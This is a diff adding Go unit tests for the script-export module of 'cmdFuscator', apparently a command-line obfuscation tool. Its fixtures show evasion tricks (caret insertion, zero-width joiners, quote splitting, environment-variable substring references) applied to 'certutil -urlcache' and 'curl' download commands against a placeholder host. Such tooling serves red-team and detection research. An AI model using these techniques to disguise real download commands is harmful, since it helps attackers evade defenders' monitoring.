@@ -0,0 +1,108 @@
+package export
+
+import (
+	"bytes"
+	"encoding/json"
+	"math/rand"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"cmdFuscator/engine"
+	"cmdFuscator/engine/modifiers"
+	"cmdFuscator/engine/modifiers/substring"
+	"cmdFuscator/models"
+)
+
+func TestScript(t *testing.T) {
+	tests := []struct {
+		name     string
+		format   ScriptFormat
+		commands []string
+		want     string
+	}{
+		{"bat", FormatBat, []string{"certutil -f https://x/a%20b %TEMP%\\a", "c^e^r^t^u^t^i^l 100%"},
+			"@echo off\r\nREM Generated by cmdFuscator.\r\ncertutil -f https://x/a%%20b %TEMP%\\a\r\nc^e^r^t^u^t^i^l 100%%\r\n"},
+		{"bat unicode", FormatBat, []string{"cert\u200dutil"},
+			"@echo off\r\nREM Generated by cmdFuscator.\r\nchcp 65001 >nul\r\ncert\u200dutil\r\n"},
+		{"ps1 ascii", FormatPS1, []string{"pOwErShElL -c Get-Process"},
+			"# Generated by cmdFuscator.\r\npOwErShElL -c Get-Process\r\n"},
+		{"ps1 unicode", FormatPS1, []string{"power\u200dshell"},
+			"\ufeff# Generated by cmdFuscator.\r\npower\u200dshell\r\n"},
+		{"sh", FormatSh, []string{"bash -c id", `c''url https://x`},
+			"#!/usr/bin/env bash\n# Generated by cmdFuscator.\nbash -c id\nc''url https://x\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := string(Script(tt.format, tt.commands)); got != tt.want {
+				t.Errorf("Script = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestScriptBatSubstrings(t *testing.T) {
+	tokens := []models.Token{
+		{Type: models.TokenTypeCommand, Value: "certutil"},
+		{Type: models.TokenTypeArgument, Value: "-urlcache"},
+		{Type: models.TokenTypeURL, Value: "https://x/a%20b"},
+	}
+	cfg := json.RawMessage(`{"AppliesTo":["command","argument"],"Probability":"1.0","Density":"1",
+		"Table":{"e":["COMSPEC:-1"],"r":["ProgramFiles:4"],"c":["COMSPEC:-7"]}}`)
+	out, err := (&substring.SubstringExpansion{}).ApplyContext(modifiers.Context{Rand: rand.New(rand.NewSource(1))}, tokens, cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	command := engine.RenderFor(out, engine.TargetCmd)
+	refs := "%COMSPEC:~-7,1%%COMSPEC:~-1,1%%ProgramFiles:~4,1%tutil -u%ProgramFiles:~4,1%l%COMSPEC:~-7,1%a%COMSPEC:~-7,1%h%COMSPEC:~-1,1%"
+	if command != refs+" https://x/a%20b" {
+		t.Fatalf("rendered %q", command)
+	}
+	want := "@echo off\r\nREM Generated by cmdFuscator.\r\n" + refs + " https://x/a%%20b\r\n"
+	if got := string(Script(FormatBat, []string{command})); got != want {
+		t.Errorf("Script = %q, want %q", got, want)
+	}
+	if got := batchEscape("%PATH:a=b% %x:y%"); got != "%PATH:a=b% %%x:y%%" {
+		t.Errorf("batchEscape = %q, want the replacement kept", got)
+	}
+}
+
+func TestScriptUTF16(t *testing.T) {
+	got := Script(FormatPS1UTF16, []string{"p\u200dwsh"})
+	if !bytes.HasPrefix(got, []byte{0xff, 0xfe}) || len(got)%2 != 0 {
+		t.Fatalf("Script = % x, want UTF-16LE with a BOM", got)
+	}
+	units := make([]uint16, len(got)/2-1)
+	for i := range units {
+		units[i] = uint16(got[2+2*i]) | uint16(got[3+2*i])<<8
+	}
+	if text := string(utf16.Decode(units)); text != "# Generated by cmdFuscator.\r\np\u200dwsh\r\n" {
+		t.Errorf("decoded %q", text)
+	}
+}
+
+func TestParseScriptFormat(t *testing.T) {
+	for in, want := range map[string]ScriptFormat{
+		"bat": FormatBat, ".BAT": FormatBat, "cmd": FormatBat,
+		"ps1": FormatPS1, "powershell": FormatPS1, "ps1-utf16": FormatPS1UTF16,
+		"sh": FormatSh, "bash": FormatSh,
+	} {
+		if got, err := ParseScriptFormat(in); err != nil || got != want {
+			t.Errorf("ParseScriptFormat(%q) = %v, %v; want %v", in, got, err, want)
+		}
+	}
+	if _, err := ParseScriptFormat("vbs"); err == nil || !strings.Contains(err.Error(), `"vbs"`) {
+		t.Errorf("ParseScriptFormat(vbs): err = %v", err)
+	}
+	for _, f := range []ScriptFormat{FormatBat, FormatPS1, FormatPS1UTF16, FormatSh} {
+		if back, err := ParseScriptFormat(f.String()); err != nil || back != f {
+			t.Errorf("%v does not round-trip through its name", f)
+		}
+		if g, ok := FormatFor(f.Target()); !ok || g.Ext() != f.Ext() {
+			t.Errorf("FormatFor(%v.Target()) = %v", f, g)
+		}
+	}
+	if _, ok := FormatFor(engine.TargetNone); ok {
+		t.Error("FormatFor(TargetNone): want none")
+	}
+}